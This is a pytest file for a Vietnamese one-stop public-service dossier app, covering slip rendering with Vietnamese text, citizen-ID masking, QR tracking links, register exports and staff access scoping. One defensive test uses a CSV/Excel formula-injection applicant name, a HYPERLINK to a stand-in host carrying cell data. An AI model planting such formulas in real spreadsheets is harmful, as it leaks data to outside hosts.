"""The one-stop documents: PDF text with Vietnamese diacritics, QR code, masking, access."""

import datetime as dt
import io

import pytest
from django.http import Http404
from openpyxl import load_workbook
from pypdf import PdfReader

from neuguong.onestop import documents
from neuguong.onestop import services as s
from neuguong.onestop.tests.conftest import MONDAY_9

pytestmark = pytest.mark.django_db

ID_NUMBER = "001234567890"


def _text(pdf: bytes) -> str:
    # Table cells wrap: compare with single spaces.
    return " ".join(
        " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages).split()
    )


def test_it_renders_the_receipt_as_a_pdf_with_vietnamese_text(world, receive):
    dossier = receive(name="Lò Thị Ánh Dương", id_number=ID_NUMBER)

    pdf = documents.render_slip("receipt", dossier, fmt="pdf")

    assert pdf.startswith(b"%PDF")
    text = _text(pdf)
    assert "GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ" in text
    assert dossier.code in text
    assert "Lò Thị Ánh Dương" in text
    assert "Thời gian trả kết quả giải quyết hồ sơ" in text
    # The applicant's own slip carries the full ID.
    assert ID_NUMBER in text


def test_it_masks_the_citizen_id_on_the_control_slip(world, receive):
    dossier = receive(id_number=ID_NUMBER)
    s.dossier_start(dossier, actor=world.reception, at=MONDAY_9 + dt.timedelta(hours=1))
    s.dossier_complete_step(dossier, actor=world.head, at=MONDAY_9 + dt.timedelta(hours=3))

    html = documents.render_slip("control_slip", dossier, fmt="html")

    assert "PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ" in html
    assert ID_NUMBER not in html
    assert "********7890" in html
    assert world.agency_a.name in html
    assert "Đúng hạn" in html or "Trước hạn" in html


def test_it_embeds_a_qr_code_with_the_tracking_link(world, receive):
    dossier = receive()
    ctx = documents.slip_context("receipt", dossier)

    assert ctx["qr"].startswith("data:image/png;base64,")
    assert ctx["tracking_url"].endswith(f"/tra-cuu/?code={dossier.code}")


def test_it_renders_the_supplement_request_and_the_refusal_with_their_reasons(world, receive):
    dossier = receive(id_number=ID_NUMBER)
    with pytest.raises(Http404):  # no refusal yet
        documents.render_slip("refusal", dossier, fmt="html")
    s.dossier_start(dossier, actor=world.reception, at=MONDAY_9 + dt.timedelta(hours=1))
    s.dossier_request_supplement(
        dossier,
        actor=world.head,
        reason="Bổ sung Giấy chứng sinh bản chính",
        at=MONDAY_9 + dt.timedelta(hours=2),
    )

    html = documents.render_slip("supplement_request", dossier, fmt="html")

    assert "PHIẾU YÊU CẦU BỔ SUNG, HOÀN THIỆN HỒ SƠ" in html
    assert "Bổ sung Giấy chứng sinh bản chính" in html
    assert ID_NUMBER not in html


def test_it_exports_the_register_as_pdf_and_excel(world, receive):
    first = receive(name="Quàng Văn Bình")
    receive(name="Đỗ Thị Cúc", at=MONDAY_9 + dt.timedelta(days=1))
    qs = first.__class__.objects.all()
    period = (MONDAY_9.date(), MONDAY_9.date())

    text = _text(documents.register_pdf(qs, period))
    assert "SỔ THEO DÕI HỒ SƠ" in text
    assert "Quàng Văn Bình" in text
    assert "Đỗ Thị Cúc" not in text  # received the next day, outside the period

    sheet = load_workbook(
        io.BytesIO(documents.register_xlsx(qs, (period[0], period[0] + dt.timedelta(days=1))))
    ).active
    assert sheet["A1"].value == "SỔ THEO DÕI HỒ SƠ"
    assert [sheet.cell(r, 4).value for r in (5, 6)] == ["Quàng Văn Bình", "Đỗ Thị Cúc"]
    assert first.applicant_phone not in [sheet.cell(r, 5).value for r in (5, 6)]


def test_it_keeps_a_formula_looking_name_as_text_in_excel(world, receive):
    """An applicant named like a formula must not become a live formula in the register (OWASP)."""
    receive(name='=HYPERLINK("http://example.invalid/?"&A1,"x")')
    from neuguong.onestop.models import Dossier

    period = (MONDAY_9.date(), MONDAY_9.date())
    sheet = load_workbook(io.BytesIO(documents.register_xlsx(Dossier.objects.all(), period))).active
    cell = sheet.cell(5, 4)
    assert cell.value.startswith("=HYPERLINK")
    assert cell.data_type == "s"


def test_staff_who_see_the_dossier_get_its_pdf(world, receive, login):
    dossier = receive()
    url = f"/onestop/dossiers/{dossier.code}/documents/receipt/"

    response = login(world.reception).get(url + "?format=pdf")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert login(world.reception).get(url).status_code == 200


def test_staff_of_another_commune_are_refused_the_slip(world, receive, login):
    dossier = receive()
    url = f"/onestop/dossiers/{dossier.code}/documents/control_slip/"

    assert login(world.outsider).get(url).status_code == 403
    assert (
        login(world.reception).get("/onestop/dossiers/NOPE/documents/receipt/").status_code == 404
    )
    assert (
        login(world.reception).get(f"/onestop/dossiers/{dossier.code}/documents/bogus/").status_code
        == 404
    )


def test_anonymous_visitors_are_sent_to_the_login(world, receive, client):
    dossier = receive()
    response = client.get(f"/onestop/dossiers/{dossier.code}/documents/receipt/")
    assert response.status_code == 302


def test_the_register_page_is_for_staff_and_scoped(
    world, receive, login, django_assert_max_num_queries
):
    receive(name="Quàng Văn Bình")
    day = MONDAY_9.date().isoformat()

    client = login(world.reception)
    with django_assert_max_num_queries(8):
        response = client.get(f"/onestop/register/?from={day}&to={day}")
    assert response.status_code == 200
    assert "Quàng Văn Bình" in response.content.decode()

    outsider = login(world.outsider).get(f"/onestop/register/?from={day}&to={day}")
    assert outsider.status_code == 200
    assert "Quàng Văn Bình" not in outsider.content.decode()

    assert login(world.citizen).get("/onestop/register/").status_code == 403

    xlsx = login(world.reception).get(f"/onestop/register/?from={day}&to={day}&format=xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
